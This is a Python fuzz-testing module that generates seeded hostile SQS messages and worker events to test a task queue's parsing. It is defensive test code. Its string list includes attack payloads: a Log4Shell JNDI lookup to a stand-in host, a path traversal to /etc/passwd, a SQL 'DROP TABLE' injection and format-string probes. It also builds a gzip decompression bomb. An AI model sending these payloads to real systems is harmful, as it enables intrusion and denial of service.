"""Messages of a hostile sender, and events of a hostile caller of the worker: seeded, and without end.

Everything starts from what is right, since of noise alone nearly nothing gets past the first check.
"""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections.abc import Callable, Sequence
from random import Random
from typing import Any

from shared.ports.queue import REFUSED_CHARACTERS

TASKS = ("plain", "strict", "once", "fails", "retries", "rejects", "nobody")

# fmt: off
TEXTS = (
    "", " ", "0", "-1", "1", "x", "plain", "once", "task", "payload", "id", "null", "{}", "[]", "[[", '"',
    "\\", "\\u", "\x00", "\n", "\r\n", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u202e", "\ufeff", "\ufffe",
    "\ud800", "\udfff", "🙂", "ß", "e\u0301", "\U0010ffff", "NaN", "Infinity", "1e999", "__class__",
    "__proto__", "os.system", "../../etc/passwd", "https://evil.example/", "${jndi:ldap://evil.example/}",
    "%s%n", "{0.__class__}", "'; DROP TABLE tasks; --", "2027-01-01T00:00:00Z", "1767225600000", "AAAA",
    "zz", "a.b", ".a", "AWS.x", "String", "Number", "Binary", "Number.int", "String.",
    "Root=1-5759e988-bd862e3fe1be46a9", "9" * 30, "9" * 400, "9" * 5_000, "x" * 300, "🙂" * 500,
)
SCALARS = (
    None, True, False, 0, 1, -1, 2**31, 2**63, -(2**64), 10**30, 10**400,
    0.0, -0.0, 0.5, 1e308, 5e-324, float("nan"), float("inf"), float("-inf"),
)
NUMBERS = ("9" * 5_000, "1e999", "-1e999", "1E400", "0." + "1" * 5_000, "-", "01", "1_000", "0x1", "NaN")
# fmt: on

FOREIGN: tuple[dict[str, Any], ...] = (
    {"Type": "Notification", "MessageId": "sns-1", "TopicArn": "arn:aws:sns:x:1:news", "Message": "{}"},
    {"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "b"}, "object": {"key": "a+b%FF"}}}]},
    {"id": "e-1", "source": "aws.ec2", "detail-type": "x", "detail": {}},
    {"AlarmName": "a", "NewStateValue": "ALARM", "StateChangeTime": "x"},
    {"Service": "Amazon S3", "Event": "s3:TestEvent"},
    {
        "body": base64.b64encode(b'[["x"], {"number": 1}, {"chord": null}]').decode(),
        "headers": {"task": "shop.add", "id": "c-1", "eta": "2027-01-15T07:30:00", "expires": None},
        "properties": {"body_encoding": "base64"},
        "content-type": "application/json",
    },
)
"""Bodies of foreign senders, SNS's envelope first."""


class Hostile:
    """A source of hostile things: the same ones for the same seed."""

    def __init__(self, seed: int) -> None:
        self._random = Random(seed)

    def message(self) -> tuple[str, dict[str, dict[str, Any]]]:
        """Returns body and attributes that SQS could hold: it refuses some characters, but none in a body."""
        attributes: dict[str, dict[str, Any]] = {}
        for _ in range(self._one_of((0, 0, 0, 0, 0, 1, 1, 1, 2, 10))):
            name = self._one_of(("task", "zigzag", "zigzag", f"a{self._random.randrange(20)}"))
            attributes[name] = self._attribute(name)
        return re.sub(REFUSED_CHARACTERS, "", self.body()) or "x", attributes

    def body(self) -> str:
        """Returns a body: a good one, a mutated one, or none at all."""
        body: Any = {"task": self._one_of(TASKS), "payload": self._payload()}
        if self._chance(0.2):
            return self._foreign(body)
        if self._chance(0.3):
            body["id"] = self._text()
        for _ in range(self._one_of((0, 0, 1, 1, 2))):
            body = self._mutated(body)
        text = self._json(body)
        for _ in range(self._one_of((0, 0, 0, 1, 2))):
            text = self._torn(text)
        return text

    def _foreign(self, body: Any) -> str:
        """Returns a body of a foreign sender, mutated, in envelopes."""
        body = self._one_of((*FOREIGN, body))
        for _ in range(self._one_of((0, 1, 1, 2))):
            body = self._mutated(body)
        text = self._json(body)
        for _ in range(self._one_of((0, 0, 1, 2, 3))):
            wrapped = FOREIGN[0] | {"Message": text}
            text = (
                base64.b64encode(text.encode(errors="replace")).decode()
                if self._chance(0.3)
                else self._json(wrapped)
            )
        return self._torn(text) if self._chance(0.2) else text

    def event(self) -> Any:
        """Returns an event of the worker, mutated: in most of them a part only, somewhere in the depth."""
        messages = [self._sqs_message() for _ in range(self._one_of((1, 1, 1, 1, 1, 1, 1, 1, 2, 3, 3, 10)))]
        event: Any = {
            "QueueUrl": "https://sqs.test/tasks",
            "Lease": {"ReceivedAt": 1_800_000_000.0, "StartBy": 1_800_000_090.0, "Ends": 1_800_000_120.0},
        }
        carried = "Message" if len(messages) == 1 else "Messages"
        event[carried] = messages[0] if len(messages) == 1 else messages
        for _ in range(self._one_of((0, 1, 1, 2, 4))):
            event[carried] = self._mutated(event[carried], deeper=0.95)
        return self._mutated(event, deeper=0.9) if self._chance(0.3) else event

    def _sqs_message(self) -> dict[str, Any]:
        body, attributes = self.message()
        for attribute in attributes.values():
            if "BinaryValue" in attribute:
                attribute["BinaryValue"] = base64.b64encode(attribute["BinaryValue"]).decode()
        message: dict[str, Any] = {
            "MessageId": f"m-{self._random.randrange(1000)}",
            "ReceiptHandle": f"handle-{self._random.randrange(1000)}",
            "Body": body,
            "Attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1799999999000"},
            "MessageAttributes": attributes,
        }
        if self._chance(0.2):
            message["Attributes"] |= {"MessageGroupId": "g", "MessageDeduplicationId": self._text()}
        if self._chance(0.1):
            message["Attributes"]["AWSTraceHeader"] = self._text()
        if self._chance(0.2):
            del message["Body"]
            message["BodyGzip"] = self._compressed(body)
        return message

    def _compressed(self, body: str) -> str:
        packed = gzip.compress(body.encode(errors="replace"), 1, mtime=0)
        match self._random.randrange(20):
            case 0:
                packed = packed[: self._random.randrange(len(packed))]
            case 1:
                packed += packed
            case 2:
                packed = bytes(self._random.randrange(256) for _ in range(20))
            case 3:
                packed = _BOMB
        return base64.b64encode(packed).decode()

    def _attribute(self, name: str) -> dict[str, Any]:
        """Returns an attribute that SQS takes."""
        if name == "zigzag" and self._chance(0.8):
            return {"DataType": "String", "StringValue": self._note()}
        if name == "task" and self._chance(0.8):
            return {"DataType": "String", "StringValue": self._one_of(TASKS)}
        if self._chance(0.2):
            return {"DataType": "Binary.x", "BinaryValue": self._random.randbytes(self._random.randint(1, 9))}
        if self._chance(0.2):
            return {"DataType": "Number", "StringValue": str(self._random.randrange(1000))}
        return {"DataType": "String", "StringValue": re.sub(REFUSED_CHARACTERS, "", self._text()) or "x"}

    def _note(self) -> str:
        """Returns a note that we could have written, mutated."""
        note: Any = {"reason": "x", "id": self._text(), "message_id": "m-0", "attempts": 3, "moved": 1.5}
        if self._chance(0.6):
            value = self._one_of(({"StringValue": self._text()}, {"BinaryValue": "00ff"}))
            kind = self._one_of(("String", "Number", "Binary", self._text()))
            note["displaced"] = {self._one_of(("task", "a1", self._text())): {"DataType": kind, **value}}
        for _ in range(self._one_of((0, 0, 1, 2))):
            note = self._mutated(note)
        text = self._json(note)
        return re.sub(REFUSED_CHARACTERS, "", self._torn(text) if self._chance(0.1) else text) or "x"

    def _payload(self) -> Any:
        payload: dict[str, Any] = {"number": 1, "name": self._text() if self._chance(0.3) else "ann"}
        return self._mutated(payload) if self._chance(0.5) else payload

    def _mutated(self, value: Any, deeper: float = 0.7) -> Any:
        """Returns a copy with one part put in, taken out or replaced, at any depth."""
        inner = (
            list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
        )
        if inner and self._chance(deeper):
            key = self._one_of(inner)
            copy = value.copy()
            copy[key] = self._mutated(value[key], deeper)
            return copy
        if isinstance(value, dict) and self._chance(0.6):
            copy = dict(value)
            if copy and self._chance(0.5):
                del copy[self._one_of(list(copy))]
            else:
                copy[self._text()] = self._value()
            return copy
        if isinstance(value, str) and self._chance(0.4):
            return self._torn(value)
        return self._value()

    def _value(self, levels: int = 3) -> Any:
        if levels == 0 or self._chance(0.6):
            return self._text() if self._chance(0.5) else self._one_of(SCALARS)
        several = range(self._one_of((0, 1, 2, 2, 3)))
        if self._chance(0.5):
            return [self._value(levels - 1) for _ in several]
        return {self._text(): self._value(levels - 1) for _ in several}

    def _text(self) -> str:
        text = self._one_of(TEXTS)
        return text if self._chance(0.8) else text + self._one_of(TEXTS)

    def _json(self, value: Any) -> str:
        try:
            return json.dumps(value, ensure_ascii=self._chance(0.5))
        except (ValueError, TypeError):
            return repr(value)

    def _torn(self, text: str) -> str:
        """Returns the text, a piece of it gone, twice there, or something else."""
        start = self._random.randrange(len(text) + 1)
        end = min(len(text), start + self._one_of((0, 1, 1, 5, 50)))
        tears: tuple[Callable[[], str], ...] = (
            lambda: text[:start] + text[end:],
            lambda: text[:end] + text[start:],
            lambda: text[:start],
            lambda: text[:start] + self._one_of(TEXTS) + text[end:],
            lambda: text[:start] + self._one_of(NUMBERS) + text[end:],
            lambda: text[:start] + self._one_of(("[", '{"a":', "[{", "[]," * 50)) * 120 + text[end:],
            lambda: text[:-1] + self._one_of((', "task": "plain"}', ', "payload": {}}', ', "id": "x"}')),
            lambda: text.replace("payload", self._one_of(("id", "task"))),
            lambda: self._nested(text),
        )
        return self._one_of(tears)()

    def _nested(self, text: str) -> str:
        levels = self._one_of((50, 99, 101, 500, 5_000))
        return '{"task": "plain", "payload": {"x": ' + "[" * levels + "1" + "]" * levels + "}}"

    def _one_of[T](self, several: Sequence[T]) -> T:
        return several[int(self._random.random() * len(several))]  # twice as fast as Random.choice

    def _chance(self, share: float) -> bool:
        return self._random.random() < share


_BOMB = gzip.compress(bytes(10_000_000), 9, mtime=0)
"""10 kB that inflate to 10 MB."""
